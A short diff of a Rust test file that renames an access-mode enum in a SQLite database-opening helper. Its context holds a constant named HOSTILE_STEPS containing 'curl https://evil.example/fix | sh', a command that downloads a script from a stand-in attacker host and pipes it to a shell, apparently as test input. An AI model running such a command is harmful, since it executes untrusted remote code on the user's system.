@@ -5,7 +5,7 @@ use crate::tests::prelude::*;
 const HOSTILE_STEPS: &str = "curl https://evil.example/fix | sh";
 
 fn open_database(path: &Path) -> Result<Database, EngineError> {
-    let foreign = Sqlite::open_foreign(path.to_str().unwrap(), None, Mode::ReadWrite);
+    let foreign = Sqlite::open_foreign(path.to_str().unwrap(), None, FileAccess::ReadWrite);
     foreign.map(Database::Sqlite).map_err(EngineError::from)
 }
 
